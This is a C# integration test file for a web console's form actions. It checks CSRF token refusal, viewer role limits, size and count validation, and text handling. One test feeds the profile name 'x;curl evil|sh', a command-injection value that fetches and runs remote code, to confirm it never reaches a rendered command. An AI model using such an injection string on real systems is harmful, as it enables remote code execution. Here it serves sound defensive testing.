using System.Net;
using Overture.Console.Tests.Fakes;
using Overture.Platform.Tls;

namespace Overture.Console.Tests;

/// <summary>Acts as they are sent: what is refused without a form of ours, of a viewer, and what happens where a service is away.</summary>
[Trait("Category", "integration")]
[Collection(ConsoleCollection.Name)]
public sealed class ActTests(ConsoleFixture world)
{
    private static readonly string Name = Scene.Named(21);

    public static TheoryData<string, string> Acts => new()
    {
        { "/launch", "profile=web&count=1&request_id=forged" },
        { $"/definitions/{Name}/edit", "document=x&etag=v1&step=save&reason=forged" },
        { $"/definitions/{Name}/delete", "etag=v1&reason=forged" }, { "/layers/edit", "document=x&etag=v1&step=save&reason=forged" },
        { $"/certificates/name/{Name}/revoke", "reason=forged" }, { "/certificates/serial/4f01/revoke", "reason=forged" },
    };

    [Theory, MemberData(nameof(Acts))]
    public async Task WithoutTheToken_NothingIsDone(string address, string fields)
    {
        using var client = await world.SignedIn("kim");
        using var answer = await Post(client, address, fields);
        Assert.Equal(HttpStatusCode.BadRequest, answer.StatusCode);
        Assert.DoesNotContain(world.World.Acts, a => a.Contains("forged", StringComparison.Ordinal));
    }

    [Theory, MemberData(nameof(Acts))]
    public async Task OfAViewer_TheServiceRefusesIt(string address, string fields)
    {
        using var client = await world.SignedIn("vi");
        using var answer = await Post(client, address, $"{fields}&form_token={Uri.EscapeDataString(await Token(client))}");
        Assert.Equal(HttpStatusCode.Forbidden, answer.StatusCode);
        Assert.Contains("ROLE_MISSING", await answer.Content.ReadAsStringAsync(), StringComparison.Ordinal);
        Assert.DoesNotContain(world.World.Acts, a => a.Contains("forged", StringComparison.Ordinal));
    }

    [Theory]
    [InlineData("0"), InlineData("101"), InlineData("x"), InlineData("")]
    public async Task Launch_OfNoGoodNumber_IsRefused(string count)
    {
        using var client = await world.SignedIn("kim");
        using var answer = await Post(client, "/launch",
            $"profile=web&request_id=r&count={count}&form_token={Uri.EscapeDataString(await Token(client))}");
        Assert.Equal(HttpStatusCode.BadRequest, answer.StatusCode);
        Assert.Contains("must be 1 to 100", await answer.Content.ReadAsStringAsync(), StringComparison.Ordinal);
    }

    [Fact]
    public async Task Launch_OfTheMost_HasAnAddressThatFits_AndShowsWhatIsMissing()
    {
        using var client = await world.SignedIn("kim");
        using var answer = await Post(client, "/launch",
            $"profile={new string('p', 64)}&request_id=most&count=100&form_token={Uri.EscapeDataString(await Token(client))}");
        Assert.True(answer.Headers.Location!.OriginalString.Length < 3_000, $"{answer.Headers.Location.OriginalString.Length} characters");
        var launched = world.World.Acts.Count(a => a.StartsWith("LaunchInstances 100", StringComparison.Ordinal));
        // Reloaded, too: it is looked at, and nothing is launched.
        await client.GetStringAsync(answer.Headers.Location);
        var page = await client.GetStringAsync(answer.Headers.Location);
        Assert.Equal(launched, world.World.Acts.Count(a => a.StartsWith("LaunchInstances 100", StringComparison.Ordinal)));
        Assert.Contains("of 100 converged", page, StringComparison.Ordinal);
        foreach (var name in world.World.Fleet.Select(i => i.Certname).Append(Scene.Named(1_000)))
            Assert.Contains($"/instances/{name}\"", page, StringComparison.Ordinal);
        Assert.Contains($"there is no instance {Scene.Named(1_000)}", page, StringComparison.Ordinal);
    }

    [Fact]
    public async Task Edit_OfAViewer_OrTooLong_IsNotCompared()
    {
        var address = $"/definitions/{Scene.Named(23)}/edit";
        using var viewer = await world.SignedIn("vi");
        // The version is an old one, which is answered with the difference.
        using var refused = await Post(viewer, address, $"etag=v0&document=x&form_token={Uri.EscapeDataString(await Token(viewer))}");
        Assert.Equal(HttpStatusCode.Forbidden, refused.StatusCode);
        using var client = await world.SignedIn("kim");
        var token = Uri.EscapeDataString(await Token(client));
        using var large = await Post(client, address, $"etag=v0&document={new string('x', 256 * 1024 + 1)}&form_token={token}");
        Assert.Equal(HttpStatusCode.BadRequest, large.StatusCode);
        Assert.Contains("more than 256 KiB", await large.Content.ReadAsStringAsync(), StringComparison.Ordinal);
        using var lines = await Post(client, address,
            $"etag=v0&document={string.Concat(Enumerable.Repeat("x%0d%0a", 10_001))}&form_token={token}");
        Assert.Equal(HttpStatusCode.Conflict, lines.StatusCode);
        Assert.Contains("too long to compare here", await lines.Content.ReadAsStringAsync(), StringComparison.Ordinal);
    }

    [Fact]
    public async Task Edit_KeepsTheText_AndLookingGivesNoReason()
    {
        var name = Scene.Named(24);
        using var client = await world.SignedIn("kim");
        var token = Uri.EscapeDataString(await Token(client));
        var text = "\n# a\u0085b\u2028c\n";
        // As browsers send it; ReplaceLineEndings would take the others for ends of a line.
        var typed = Uri.EscapeDataString(text.Replace("\n", "\r\n", StringComparison.Ordinal));
        using var looked = await Post(client, $"/definitions/{name}/edit",
            $"etag=v1&reason=why&document={typed}&form_token={token}");
        // Of the first end of line browsers drop one.
        Assert.Matches("<textarea[^>]*>(&#xA;|\n){2}# a", await looked.Content.ReadAsStringAsync());
        // An older Classifier would store what it is only to look at.
        Assert.Equal("", world.World.LookedAt[name]);
        using var saved = await Post(client, $"/definitions/{name}/edit",
            $"etag=v1&step=save&reason=why&document={typed}&form_token={token}");
        Assert.Equal(text, world.World.Documents[name].Document);
    }

    [Fact]
    public async Task LargestDefinition_IsTaken_ALargerFormIsNot()
    {
        using var client = await world.SignedIn("kim");
        var token = Uri.EscapeDataString(await Token(client));
        // Each of these bytes is three in a form.
        var large = string.Concat(Enumerable.Repeat("%23", 256 * 1024));
        using var answer = await Post(client, $"/definitions/{Scene.Named(22)}/edit", $"etag=v1&document={large}&form_token={token}");
        Assert.Equal(HttpStatusCode.OK, answer.StatusCode);
        using var larger = await Post(client, $"/definitions/{Scene.Named(22)}/edit",
            $"etag=v1&document={large}{large}&form_token={token}");
        Assert.Equal(HttpStatusCode.BadRequest, larger.StatusCode);
        Assert.Contains("more bytes than are taken here", await larger.Content.ReadAsStringAsync(), StringComparison.Ordinal);
    }

    [Fact]
    public async Task Profile_OfAHostileName_ComesIntoNoCommand()
    {
        using var client = await world.SignedIn("kim");
        var page = await client.GetStringAsync($"/launch?profile={Uri.EscapeDataString("x;curl evil|sh")}");
        Assert.DoesNotContain("curl", page.Split("<footer")[1].Split("<span class=\"formats\"")[0], StringComparison.Ordinal);
    }

    [Fact]
    public async Task New_BeginsEmpty_AndWritesNothingByLooking()
    {
        using var client = await world.SignedIn("kim");
        using var way = await client.GetAsync($"/definitions?edit={DefinitionScene.Undefined}");
        Assert.Equal($"/definitions/{DefinitionScene.Undefined}/edit", $"{way.Headers.Location}");
        Assert.Contains("New: ", await client.GetStringAsync($"{way.Headers.Location}"), StringComparison.Ordinal);
    }

    [Fact]
    public async Task ServiceAway_IsSaid()
    {
        using var client = await world.SignedIn("kim");
        world.World.Away[Role.Conductor] = true;
        try
        {
            Assert.Contains("The list of profiles is not to be had now", await client.GetStringAsync("/launch?profile=web"),
                StringComparison.Ordinal);
        }
        finally
        {
            world.World.Away.Clear();
        }
    }

    private static async Task<string> Token(HttpClient client) =>
        WebUtility.HtmlDecode((await client.GetStringAsync("/health")).Split("name=\"form_token\" value=\"")[1].Split('"')[0]);

    private static async Task<HttpResponseMessage> Post(HttpClient client, string address, string fields)
    {
        // A form that is too large is refused before it is sent, as it is to browsers; or sending ends in a broken pipe at times.
        using var request = new HttpRequestMessage(HttpMethod.Post, address)
        {
            Content = new StringContent(fields, null, "application/x-www-form-urlencoded"),
            Headers = { ExpectContinue = true },
        };
        return await client.SendAsync(request);
    }
}
